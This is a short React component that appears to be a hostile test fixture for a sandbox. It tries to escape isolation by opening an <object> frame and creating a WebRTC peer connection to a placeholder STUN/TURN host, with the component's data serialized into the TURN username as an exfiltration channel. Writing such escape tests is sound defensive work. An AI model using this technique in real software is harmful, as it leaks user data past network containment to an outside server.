import { useEffect } from "react";

// Escape attempt: webrtc_object_frame — an <object> holding an HTML document is a browsing context too
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_object_frame-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const holder = document.createElement("object");
      holder.type = "text/html";
      holder.data = "about:blank";
      document.body.appendChild(holder);
      setTimeout(() => {
        try {
          const Peer = holder.contentWindow.RTCPeerConnection;
          const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
        } catch (error) {
          console.info("contained", error && error.message);
        }
      }, 300);
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_object_frame</p>;
}
